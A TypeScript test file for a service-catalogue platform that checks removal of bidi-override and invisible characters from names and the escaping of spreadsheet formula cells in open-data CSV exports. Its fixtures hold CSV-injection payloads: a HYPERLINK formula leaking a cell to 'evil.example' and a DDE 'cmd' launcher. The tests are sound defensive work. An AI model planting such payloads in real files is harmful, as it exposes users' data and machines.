// Stored catalogue text follows the platform's one text rule (no bidi overrides or invisible characters
// in agency and service names), and every open-data CSV escapes cells a spreadsheet would run as a
// formula (= + - @ tab CR get a leading '), which the catalogue importer takes off again.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { testApp, type TestApp } from '../../../test/helpers/app.ts';
import { rowToInput } from './catalog.service.ts';
import { parsePanjerehCsv, toPanjerehCsv } from './importers/panjereh.ts';

let t: TestApp;
before(async () => (t = await testApp()));
after(() => t.close());

test('catalogue import cleans names: no RLO/LRO/isolates, ZWSP, word joiner or BOM; ZWNJ stays', async () => {
  const base = rowToInput(await t.ctx.catalog.cardForEditing((await t.ctx.catalog.agencyCards('ir-nocr'))[0].slug));
  const agency = {
    ...(await t.ctx.catalog.getAgency('ir-nocr')),
    id: 'ir-text-test',
    name: { fa: '\u202Eسازمان\u200B ثبت\u2060 احوال\uFEFF', en: 'Civil \u2066Registry\u2069 \u202DOffice' },
  };
  const card = {
    ...base,
    slug: 'text-test-card',
    sourceKey: 'text-test-card',
    agencyId: 'ir-text-test',
    status: 'published' as const,
    name: { fa: 'درخواست\u200Cها\u200B\u200F', en: '\u202Egnp.exe\u202C Certificate\u200B' },
    summary: { fa: 'خلاصه\u2060', en: 'A\uFEFF summary' },
  };
  const r = await t.ctx.catalog.importBatch(parsePanjerehCsv(toPanjerehCsv([card], [agency as never])), 'test');
  assert.equal(r.rejected.length, 0, JSON.stringify(r.rejected));
  const a = await t.ctx.catalog.getAgency('ir-text-test');
  assert.deepEqual(a.name, { fa: 'سازمان ثبت احوال', en: 'Civil Registry Office' });
  const s = await t.ctx.catalog.cardForEditing('text-test-card');
  assert.deepEqual(s.name, { fa: 'درخواست\u200Cها', en: 'gnp.exe Certificate' });
  assert.deepEqual(s.summary, { fa: 'خلاصه', en: 'A summary' });
  // catalogue editing: the same rule
  const edited = await t.ctx.catalog.editCard('text-test-card', { name: { fa: 'نام\u202E تازه', en: 'New\u200B name' } }, 'test');
  assert.ok(edited.ok);
  assert.deepEqual((await t.ctx.catalog.cardForEditing('text-test-card')).name, { fa: 'نام تازه', en: 'New name' });
});

test('open-data CSVs escape formula cells (= + - @ tab CR) with a leading apostrophe; the importer reads them back unchanged; the data dictionary says so', async () => {
  const base = rowToInput(await t.ctx.catalog.cardForEditing((await t.ctx.catalog.agencyCards('ir-nocr'))[0].slug));
  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\tTab', '\rReturn'];
  const agency = { ...(await t.ctx.catalog.getAgency('ir-nocr')), id: 'ir-csv-test', name: { fa: 'دستگاه آزمون', en: '=1+2' } };
  const cards = formulas.map((f, i) => ({
    ...base,
    slug: `csv-test-${i}`,
    sourceKey: `csv-test-${i}`,
    agencyId: 'ir-csv-test',
    status: 'published' as const,
    name: { fa: `خدمت ${i}`, en: `Service ${i}` },
    summary: { fa: 'خلاصه', en: f },
  }));
  const r = await t.ctx.catalog.importBatch(parsePanjerehCsv(toPanjerehCsv(cards, [agency as never])), 'test');
  assert.equal(r.rejected.length, 0, JSON.stringify(r.rejected));
  // the stored values are what was imported (\t and \r are stripped from one-line text by the text rule)
  const stored = await Promise.all(cards.map(async (c) => (await t.ctx.catalog.cardForEditing(c.slug)).summary.en));
  assert.deepEqual(
    stored,
    formulas.map((f) => f.trim()),
  );
  await new Promise((r) => setTimeout(r, 120)); // the catalogue snapshot refreshes every 50 ms in tests

  const services = await t.app.inject({ url: '/open-data/services.csv' });
  assert.equal(services.statusCode, 200);
  const cells = (parse(services.body, { comment: '#', relax_column_count: true }) as string[][]).flat();
  const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
  assert.deepEqual(dangerous, [], 'no cell starts with a formula character');
  for (const f of formulas.map((x) => x.trim())) assert.ok(cells.includes(/^[=+\-@]/.test(f) ? `'${f}` : f), f);
  const agencies = await t.app.inject({ url: '/open-data/agencies.csv' });
  const agencyCells = (parse(agencies.body, { comment: '#', relax_column_count: true }) as string[][]).flat();
  assert.ok(agencyCells.includes("'=1+2"));
  assert.deepEqual(
    agencyCells.filter((c) => /^[=+\-@\t\r]/.test(c)),
    [],
  );

  // the open-data file imports back to the same text
  const back = parsePanjerehCsv(services.body).services.filter((s) => s.agencyId === 'ir-csv-test');
  assert.deepEqual(back.map((s) => s.summary.en).sort(), formulas.map((f) => f.trim()).sort());

  // the data dictionary says how text cells are written, in both languages
  for (const lang of ['fa', 'en']) {
    const page = await t.app.inject({ url: `/${lang}/monitoring/open-data` });
    assert.equal(page.statusCode, 200);
    assert.match(
      page.body,
      lang === 'en' ? /starts with =, \+, -, @, a tab or a carriage return is written with a leading apostrophe/ : /با یک آپاستروف/,
    );
  }
  const dict = (await t.app.inject({ url: '/open-data/monitoring/dictionary.json' })).json();
  assert.match(dict.csvText.en, /apostrophe/);
});

test('every CSV the product writes goes through the one escaping helper (src/platform/csv.ts)', () => {
  const src = path.resolve(import.meta.dirname, '../..');
  const files = (fs.readdirSync(src, { recursive: true }) as string[]).filter((f) => /\.tsx?$/.test(f) && !/\.test\.tsx?$/.test(f));
  const direct = files.filter(
    (f) => f !== path.join('platform', 'csv.ts') && /from 'csv-stringify/.test(fs.readFileSync(path.join(src, f), 'utf8')),
  );
  assert.deepEqual(direct, []);
});
